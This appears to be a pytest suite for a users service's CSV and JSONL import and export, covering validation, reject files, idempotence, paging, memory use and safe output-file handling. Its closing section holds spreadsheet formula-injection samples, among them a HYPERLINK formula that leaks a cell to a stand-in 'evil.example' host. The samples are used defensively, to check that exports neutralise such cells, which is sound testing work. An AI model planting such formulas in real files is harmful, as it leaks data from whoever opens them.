"""Import and export: the rows they take and refuse, idempotence, order,
round trips and bounded reads (the command line: tests/system/test_transfer_cli.py).

Every test runs on each configured database, through the app's own engine
(the `client` fixture empties the users table first).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sys
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import event

from tests.helpers import ADA, create_ada, create_user, user_count
from users_service.models import users
from users_service.seed import seed_users
from users_service.transfer import (
    BATCH_SIZE_MAX,
    Format,
    TransferError,
    export_file,
    export_users,
    import_file,
    safe_output_file,
)

BIN = Path(sys.executable).parent


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def read_rejects_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as rejects:
        return list(csv.DictReader(rejects))


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def import_(app, path: Path, **options: Any):
    summary, rejects = import_file(app.state.database.engine, path, progress=False, **options)
    return summary, rejects


def export(app, fmt: Format = "jsonl", **options: Any) -> bytes:
    out = io.BytesIO()
    with app.state.database.engine.connect() as connection:
        export_users(connection=connection, out=out, fmt=fmt, **options)
    return out.getvalue()


def listing(client) -> list[dict[str, Any]]:
    """Every user, as GET /users lists them (created_at, then id)."""
    items: list[dict[str, Any]] = []
    params: dict[str, Any] = {"limit": 500}
    while True:
        page = client.get("/users", params=params).json()
        items += page["items"]
        if not page["next_cursor"]:
            return items
        params["cursor"] = page["next_cursor"]


CSV_WITH_MISTAKES = '''\
name,email,age
Ada Lovelace,Ada@Example.COM,36
"Hopper, Grace ""Amazing""",grace@example.com,85
Nobody,not-an-email,20
Too Old,old@example.com,151
Not A Number,nan@example.com,thirty

Too,many,1,2
Ada Again,ada@example.com,36
,empty@example.com,5
'''


def test_csv_import_takes_valid_rows_and_rejects_the_others_with_line_and_reason(
    client, app, tmp_path
):
    source = write(tmp_path / "users.csv", CSV_WITH_MISTAKES)
    summary, rejects_path = import_(app, source)

    assert (summary.imported, summary.already_present, summary.rejected) == (2, 0, 6)
    assert rejects_path == tmp_path / "users.rejects.csv"
    rejects = read_rejects_csv(rejects_path)
    assert [(r["line"], r["code"]) for r in rejects] == [
        ("4", "validation_failed"),
        ("5", "validation_failed"),
        ("6", "validation_failed"),
        ("8", "malformed"),
        ("9", "duplicate_in_file"),
        ("10", "validation_failed"),
    ]
    reasons = {r["line"]: r["reason"] for r in rejects}
    assert reasons["4"].startswith("email: email is not valid")
    assert reasons["5"] == "age: Input should be less than or equal to 150"
    assert reasons["6"] == "age: Input should be a valid integer"
    assert reasons["8"] == "expected 3 fields, found 4"
    assert reasons["9"] == "the same email as line 2"
    assert reasons["10"] == "name: name must not be empty"
    # The original row follows, so the file can be fixed and imported again.
    assert rejects[0]["name"] == "Nobody" and rejects[0]["email"] == "not-an-email"

    items = listing(client)
    assert [(u["name"], u["email"], u["age"]) for u in items] == [
        ("Ada Lovelace", "ada@example.com", 36),
        ('Hopper, Grace "Amazing"', "grace@example.com", 85),
    ]
    assert {u["version"] for u in items} == {1}


def test_jsonl_import_applies_the_api_rules_strictly_and_reports_malformed_lines(
    client, app, tmp_path
):
    lines = [
        json.dumps(ADA),
        "",
        json.dumps({"name": "Alan", "email": "alan@example.com", "age": "41"}),
        json.dumps({"name": "Emial", "emial": "x@example.com", "age": 1}),
        "{not json",
        "[1, 2]",
        json.dumps({"name": "Bell\u0007", "email": "bell@example.com", "age": 3}),
        json.dumps({"name": "Grace", "email": "grace@example.com", "age": 85, "id": "nope"}),
        json.dumps({"name": "Edsger", "email": "edsger@example.com", "age": 72}),
    ]
    source = write(tmp_path / "users.jsonl", "\n".join(lines) + "\n")
    summary, rejects_path = import_(app, source)

    assert (summary.imported, summary.rejected) == (2, 6)
    assert rejects_path == tmp_path / "users.rejects.jsonl"
    rejects = {r["line"]: r for r in read_jsonl(rejects_path)}
    assert sorted(rejects) == [3, 4, 5, 6, 7, 8]
    assert rejects[3]["reason"] == "age: Input should be a valid integer"
    assert "emial: unknown field" in rejects[4]["reason"]
    assert "email: Field required" in rejects[4]["reason"]
    assert rejects[5]["code"] == "malformed" and rejects[5]["row"] == "{not json"
    assert rejects[6]["code"] == "malformed" and rejects[6]["row"] == [1, 2]
    assert "control characters" in rejects[7]["reason"]
    assert rejects[8]["reason"] == "id: must be a UUID"
    assert rejects[8]["row"]["email"] == "grace@example.com"
    assert {u["email"] for u in listing(client)} == {"ada@example.com", "edsger@example.com"}


def test_a_byte_order_mark_before_the_first_row_is_ignored(client, app, tmp_path):
    bom = "\ufeff"
    write(tmp_path / "a.csv", f"{bom}name,email,age\nAda,ada@example.com,36\n")
    write(tmp_path / "b.jsonl", bom + json.dumps({"name": "Alan", "email": "a@x.io", "age": 41}))
    assert import_(app, tmp_path / "a.csv")[0].imported == 1
    assert import_(app, tmp_path / "b.jsonl")[0].imported == 1


def test_importing_the_same_file_twice_imports_nothing_twice(client, app, tmp_path):
    source = write(tmp_path / "users.csv", CSV_WITH_MISTAKES)
    import_(app, source)
    first_rejects = (tmp_path / "users.rejects.csv").read_text()
    before = listing(client)

    summary, _ = import_(app, source)

    assert (summary.imported, summary.already_present, summary.rejected) == (0, 2, 6)
    assert listing(client) == before
    assert (tmp_path / "users.rejects.csv").read_text() == first_rejects


def test_rows_whose_email_or_id_belongs_to_another_user_are_rejected(client, app, tmp_path):
    ada = create_ada(client)
    alan = create_user(client, name="Alan Turing", email="alan@example.com", age=41)
    other_id = "5b1f0a52-8f1e-4f0e-9c55-2c1f3e7f9b10"
    rows = [
        "id,name,email,age",
        f",{ADA['name']},{str(ADA['email']).upper()},{ADA['age']}",  # the same user: present
        f"{ada['id']},{ADA['name']},{ADA['email']},{ADA['age']}",  # same, same id: present
        f",Ada Byron,{ADA['email']},{ADA['age']}",  # another name
        f"{other_id},{ADA['name']},{ADA['email']},{ADA['age']}",  # another id
        f"{alan['id']},Alan Turing,turing@example.com,41",  # Alan's id, another email
    ]
    source = write(tmp_path / "users.csv", "\n".join(rows) + "\n")
    summary, rejects_path = import_(app, source)

    assert (summary.imported, summary.already_present, summary.rejected) == (0, 1, 4)
    rejects = {r["line"]: r for r in read_rejects_csv(rejects_path)}
    assert rejects["3"]["code"] == "duplicate_in_file"  # line 2 already had this email
    assert rejects["4"]["code"] == "duplicate_in_file"
    assert rejects["5"]["code"] == "duplicate_in_file"
    assert rejects["6"]["code"] == "id_taken"
    assert user_count(client) == 2

    # Each on its own, against the users already there:
    for line, code, reason in [
        (rows[2], None, None),
        (rows[3], "email_taken", "a user with this email exists, with another name"),
        (rows[4], "email_taken", "a user with this email exists, with another id"),
    ]:
        single = write(tmp_path / "single.csv", f"{rows[0]}\n{line}\n")
        summary, rejects_path = import_(app, single)
        if code is None:
            assert (summary.already_present, rejects_path.exists()) == (1, False)
        else:
            refused = read_rejects_csv(rejects_path)
            assert [(r["code"], r["reason"]) for r in refused] == [(code, reason)]
    assert user_count(client) == 2


def test_emails_repeated_anywhere_in_the_file_are_rejected_naming_the_first_line(
    client, app, tmp_path
):
    rows = ["name,email,age"] + [f"User {n},user{n}@example.com,{n % 100}" for n in range(20)]
    rows += ["Again,USER3@example.com,3", "Again,user17@example.com,17"]
    source = write(tmp_path / "users.csv", "\n".join(rows) + "\n")

    for run in range(2):  # and the same on a second run, across batches of 4
        summary, rejects_path = import_(app, source, batch_size=4)
        assert (summary.imported, summary.already_present) == ((20, 0) if run == 0 else (0, 20))
        assert [(r["line"], r["reason"]) for r in read_rejects_csv(rejects_path)] == [
            ("22", "the same email as line 5"),
            ("23", "the same email as line 19"),
        ]
    assert user_count(client) == 20


def test_imported_users_keep_the_file_order_when_listed(client, app, tmp_path):
    names = ["Zoe", "Adam", "Mia", "Bob", "Eve"]
    rows = "".join(f"{name},{name.lower()}@example.com,30\n" for name in names)
    import_(app, write(tmp_path / "users.csv", "name,email,age\n" + rows), batch_size=2)
    assert [u["name"] for u in listing(client)] == names


def test_export_writes_every_user_as_the_api_lists_them(client, app):
    for _ in range(7):
        create_user(client)
    expected = listing(client)

    lines = export(app, page_size=3).decode().splitlines()
    assert [json.loads(line) for line in lines] == expected

    rows = list(csv.DictReader(io.StringIO(export(app, "csv", page_size=3).decode())))
    assert list(rows[0]) == ["id", "name", "email", "age", "created_at", "updated_at", "version"]
    assert rows == [{key: str(value) for key, value in user.items()} for user in expected]


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_export_then_import_gives_back_the_same_users(client, app, tmp_path, fmt):
    create_ada(client)
    create_user(client, name='Grace "Amazing", Hopper', email="grace@example.com", age=85)
    create_user(client, name="Zoë Ørsted 東京", email="zoe@example.com", age=0)
    patched = create_user(client)
    client.patch(f"/users/{patched['id']}", json={"age": 99})
    first = export(app, fmt)
    path = tmp_path / f"users.{fmt}"
    path.write_bytes(first)

    with app.state.database.engine.begin() as connection:
        connection.execute(users.delete())
    summary, _ = import_(app, path)
    assert (summary.imported, summary.rejected) == (4, 0)
    assert export(app, fmt) == first  # ids, timestamps and versions too

    summary, _ = import_(app, path)
    assert (summary.imported, summary.already_present) == (0, 4)


def test_export_reads_one_bounded_page_per_statement_by_key(client, app):
    seed_users(app.state.database.engine, 25, progress=False)
    statements: list[str] = []

    def record(_conn, _cursor, statement, params, _context, _many):
        if "FROM users" in statement:
            statement = " ".join(statement.split()).upper()
            if statement.endswith(" OFFSET ?"):  # SQLite's LIMIT ? OFFSET ?, with 0
                assert params[-1] == 0
                statement = statement.removesuffix(" OFFSET ?")
            statements.append(statement)

    event.listen(app.state.database.engine, "before_cursor_execute", record)
    try:
        assert len(export(app, page_size=10).splitlines()) == 25
    finally:
        event.remove(app.state.database.engine, "before_cursor_execute", record)

    count, *pages = statements
    assert "COUNT(*)" in count
    assert len(pages) == 3  # 10 + 10 + 5
    for number, page in enumerate(pages):
        assert "OFFSET" not in page
        assert re.search(r" LIMIT \S+$", page)  # one bound parameter: the page size
        assert re.search(r"ORDER BY USERS\.CREATED_AT( ASC)?, USERS\.ID( ASC)? LIMIT", page)
        assert ("WHERE" in page) == (number > 0)  # after the first page: after its last key


def _peak_bytes(run) -> int:
    tracemalloc.start()
    try:
        run()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_export_memory_does_not_grow_with_the_number_of_users(client, app):
    def export_all() -> None:
        with app.state.database.engine.connect() as connection, open(os.devnull, "wb") as out:
            export_users(connection=connection, out=out, page_size=200)

    seed_users(app.state.database.engine, 1_000, progress=False)
    export_all()  # warm the statement caches
    small = _peak_bytes(export_all)
    seed_users(app.state.database.engine, 4_000, progress=False)
    large = _peak_bytes(export_all)
    assert large < small * 1.5, (small, large)


def test_import_memory_does_not_grow_with_the_file(client, app, tmp_path):
    def make(count: int, tag: str) -> Path:
        rows = "".join(f"User {n},{tag}{n}@example.com,{n % 150}\n" for n in range(count))
        return write(tmp_path / f"{tag}.csv", "name,email,age\n" + rows)

    small_file, large_file = make(2_000, "small"), make(8_000, "large")
    import_(app, make(300, "warm"), batch_size=200)  # warm the statement caches
    small = _peak_bytes(lambda: import_(app, small_file, batch_size=200))
    large = _peak_bytes(lambda: import_(app, large_file, batch_size=200))
    assert user_count(client) == 10_300
    assert large < small * 1.5, (small, large)


def test_format_can_be_named_when_the_extension_does_not_say(client, app, tmp_path):
    source = write(tmp_path / "export.txt", json.dumps({**ADA, "age": 200}) + "\n")
    summary, rejects_path = import_(app, source, fmt="jsonl")
    assert summary.rejected == 1
    assert rejects_path == tmp_path / "export.txt.rejects.jsonl"
    custom = tmp_path / "elsewhere" / "bad.jsonl"
    custom.parent.mkdir()
    assert import_(app, source, fmt="jsonl", rejects_path=custom)[1] == custom
    assert read_jsonl(custom)[0]["reason"] == "age: Input should be less than or equal to 150"


def test_a_file_without_the_needed_columns_or_format_is_refused_as_a_whole(client, app, tmp_path):
    with pytest.raises(TransferError, match="unknown column 'agee'; missing column 'age'"):
        import_(app, write(tmp_path / "a.csv", "name,email,agee\nAda,ada@example.com,36\n"))
    with pytest.raises(TransferError, match="from its extension"):
        import_(app, write(tmp_path / "a.txt", "name,email,age\n"))
    with pytest.raises(ValueError, match="batch size"):
        import_(app, write(tmp_path / "b.csv", "name,email,age\n"), batch_size=BATCH_SIZE_MAX + 1)
    assert user_count(client) == 0


# --- files the commands write ---------------------------------------------


def files_in(directory: Path) -> list[str]:
    return sorted(path.name for path in directory.iterdir())


def test_import_refuses_rejects_that_would_overwrite_its_input(client, app, tmp_path):
    rows = "".join(f"User {n},user{n}@example.com,{n % 150}\n" for n in range(500))
    source = write(tmp_path / "big.csv", "name,email,age\n" + rows)
    original = source.read_bytes()
    os.link(source, tmp_path / "hard-link.csv")

    for rejects in [source, tmp_path / "." / "big.csv", tmp_path / "hard-link.csv"]:
        with pytest.raises(TransferError, match=r"is the file being imported"):
            import_(app, source, rejects_path=rejects)
    assert source.read_bytes() == original
    assert user_count(client) == 0
    assert files_in(tmp_path) == ["big.csv", "hard-link.csv"]


@pytest.mark.backends("sqlite")  # only SQLite keeps the database in a file
def test_import_and_export_refuse_to_write_over_the_sqlite_database(client, app, backend, tmp_path):
    create_ada(client)
    engine = app.state.database.engine
    database = Path(engine.url.database)
    before = database.stat()
    os.link(database, tmp_path / "hard-link.db")
    source = write(tmp_path / "users.csv", "name,email,age\nAlan,alan@example.com,400\n")
    spellings = [
        database,
        database.parent / "." / database.name,
        tmp_path / "hard-link.db",
        Path(f"{database}-wal"),
    ]
    for output in spellings:
        with pytest.raises(TransferError, match=r"is the database"):
            export_file(engine, output, progress=False)
        with pytest.raises(TransferError, match=r"is the database"):
            import_(app, source, rejects_path=output)
    after = database.stat()
    assert (after.st_ino, after.st_size, after.st_mtime_ns) == (
        before.st_ino,
        before.st_size,
        before.st_mtime_ns,
    )
    assert [u["name"] for u in listing(client)] == [ADA["name"]]


def test_outputs_that_are_symbolic_links_are_refused_and_their_targets_left_alone(
    client, app, tmp_path
):
    create_ada(client)
    target = write(tmp_path / "precious.txt", "precious\n")
    link = tmp_path / "users.jsonl"
    link.symlink_to(target)
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "created-through-the-link.csv")
    source = write(tmp_path / "users.csv", "name,email,age\nAlan,alan@example.com,400\n")

    for output in [link, dangling]:
        with pytest.raises(TransferError, match=r"is a symbolic link"):
            export_file(app.state.database.engine, output, progress=False)
        with pytest.raises(TransferError, match=r"is a symbolic link"):
            import_(app, source, rejects_path=output)
    assert target.read_text() == "precious\n"
    assert link.is_symlink() and dangling.is_symlink()
    assert files_in(tmp_path) == ["dangling.csv", "precious.txt", "users.csv", "users.jsonl"]
    assert user_count(client) == 1


def test_a_clean_import_leaves_an_existing_rejects_file_alone_and_makes_none(client, app, tmp_path):
    kept = write(tmp_path / "users.rejects.csv", "line,code,reason\n9,malformed,from last time\n")
    clean = write(tmp_path / "users.csv", "name,email,age\nAda,first@example.com,36\n")
    summary, rejects_path = import_(app, clean)
    assert (summary.imported, summary.rejected, rejects_path) == (1, 0, kept)
    assert kept.read_text() == "line,code,reason\n9,malformed,from last time\n"

    summary, rejects_path = import_(
        app, write(tmp_path / "more.jsonl", json.dumps({**ADA, "email": "b@example.com"}) + "\n")
    )
    assert (summary.imported, summary.rejected) == (1, 0)
    assert not rejects_path.exists()
    assert files_in(tmp_path) == ["more.jsonl", "users.csv", "users.rejects.csv"]

    # With rejects, the file is replaced by this run's.
    summary, _ = import_(app, write(tmp_path / "users.csv", CSV_WITH_MISTAKES))
    assert summary.rejected == 6
    assert len(read_rejects_csv(kept)) == 6


def test_export_replaces_its_output_whole_and_only_once_it_is_written(client, app, tmp_path):
    for _ in range(5):
        create_user(client)
    output = write(tmp_path / "users.jsonl", "the previous export\n")
    output.chmod(0o640)

    assert export_file(app.state.database.engine, output, progress=False) == 5
    assert output.read_bytes() == export(app)
    assert output.stat().st_mode & 0o777 == 0o640  # a replaced file keeps its permissions
    assert files_in(tmp_path) == ["users.jsonl"]

    # Interrupted half-way: the previous file stays, and nothing else.
    with pytest.raises(KeyboardInterrupt), safe_output_file(output) as pending:
        pending.stream.write(b'{"half": ')
        raise KeyboardInterrupt
    assert output.read_bytes() == export(app)
    assert files_in(tmp_path) == ["users.jsonl"]

    # A file the writer decides not to keep is never made.
    with safe_output_file(tmp_path / "unwanted.csv") as pending:
        pending.stream.write(b"line,code,reason\n")
        pending.keep = False
    assert files_in(tmp_path) == ["users.jsonl"]


# Names a spreadsheet would run as formulas, and names that start with the
# quote that neutralises them: each must come back exactly.
FORMULA_NAMES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "'=already quoted",
    "''=quoted twice",
    "'' two quotes",
    "'+",
    "'plain apostrophe",
    "'",
    "O'Brien",
    "Ada = Lovelace",
]
# What the CSV export writes for each (only the cells a spreadsheet would
# read as a formula, or that would otherwise read back as one, get the quote).
FORMULA_CELLS = {
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")': (
        '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
    ),
    "+SUM(1,2)": "'+SUM(1,2)",
    "-2+3": "'-2+3",
    "@SUM(1)": "'@SUM(1)",
    "'=already quoted": "''=already quoted",
    "''=quoted twice": "'''=quoted twice",
    "'' two quotes": "''' two quotes",
    "'+": "''+",
    "'plain apostrophe": "'plain apostrophe",
    "'": "'",
    "O'Brien": "O'Brien",
    "Ada = Lovelace": "Ada = Lovelace",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def create_formula_users(client) -> list[dict[str, Any]]:
    emails = ["-minus{}@example.com", "+plus{}@example.com", "={}@example.com", "'-{}@example.com"]
    return [
        create_user(client, name=name, email=emails[n % len(emails)].format(n))
        for n, name in enumerate(FORMULA_NAMES)
    ]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode())))[1:]


def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, app):
    created = create_formula_users(client)
    rows = csv_rows(export(app, "csv"))
    assert [(row[1], row[2]) for row in rows] == [
        (FORMULA_CELLS[user["name"]], "'" + user["email"]) for user in created
    ]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("raw", [False, True])
def test_csv_export_then_import_gives_back_formula_like_names_exactly(client, app, tmp_path, raw):
    create_formula_users(client)
    before = listing(client)
    path = tmp_path / "users.csv"
    path.write_bytes(export(app, "csv", raw=raw))
    with app.state.database.engine.begin() as connection:
        connection.execute(users.delete())

    summary, _ = import_(app, path, raw=raw)
    assert (summary.imported, summary.rejected) == (len(FORMULA_NAMES), 0)
    assert listing(client) == before


def test_raw_csv_export_writes_cells_as_they_are(client, app):
    created = create_formula_users(client)
    rows = csv_rows(export(app, "csv", raw=True))
    assert [(row[1], row[2]) for row in rows] == [(u["name"], u["email"]) for u in created]


def test_jsonl_export_writes_formula_like_names_as_they_are(client, app):
    created = create_formula_users(client)
    lines = [json.loads(line) for line in export(app).splitlines()]
    assert [(u["name"], u["email"]) for u in lines] == [(u["name"], u["email"]) for u in created]


def formula_rows_file(path: Path) -> Path:
    """A CSV file, written by a spreadsheet-unaware program, whose rejected
    rows carry formulas; and one good row whose name starts with a quote."""
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out, lineterminator="\n")
        writer.writerow(["name", "email", "age"])
        writer.writerow(['=HYPERLINK("https://evil.example")', "a@example.com", "200"])
        writer.writerow(["@SUM(1)", "-not-an-email", "1"])
        writer.writerow(["'=quoted", "q@example.com", "-1"])
        writer.writerow(["Tab", "tab@example.com", "\t=1+1"])
        writer.writerow(["'+1 guy", "plus@example.com", "30"])
    return path


def test_the_rejects_file_of_a_csv_import_neutralises_formulas(client, app, tmp_path):
    summary, rejects_path = import_(app, formula_rows_file(tmp_path / "users.csv"))
    assert (summary.imported, summary.rejected) == (1, 4)
    with rejects_path.open(newline="", encoding="utf-8") as rejects:
        rows = list(csv.reader(rejects))[1:]
    assert [row[3:] for row in rows] == [
        ['\'=HYPERLINK("https://evil.example")', "a@example.com", "200"],
        ["'@SUM(1)", "'-not-an-email", "1"],
        ["'=quoted", "q@example.com", "'-1"],
        ["Tab", "tab@example.com", "'\t=1+1"],
    ]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    # The file's "'+1 guy" is the neutralised form of "+1 guy".
    assert [u["name"] for u in listing(client)] == ["+1 guy"]


def test_raw_import_takes_cells_as_they_are_and_writes_its_rejects_so(client, app, tmp_path):
    source = formula_rows_file(tmp_path / "users.csv")
    summary, rejects_path = import_(app, source, raw=True)
    assert (summary.imported, summary.rejected) == (1, 4)
    with source.open(newline="", encoding="utf-8") as original:
        expected = list(csv.reader(original))[1:5]
    with rejects_path.open(newline="", encoding="utf-8") as rejects:
        assert [row[3:] for row in list(csv.reader(rejects))[1:]] == expected
    assert [u["name"] for u in listing(client)] == ["'+1 guy"]
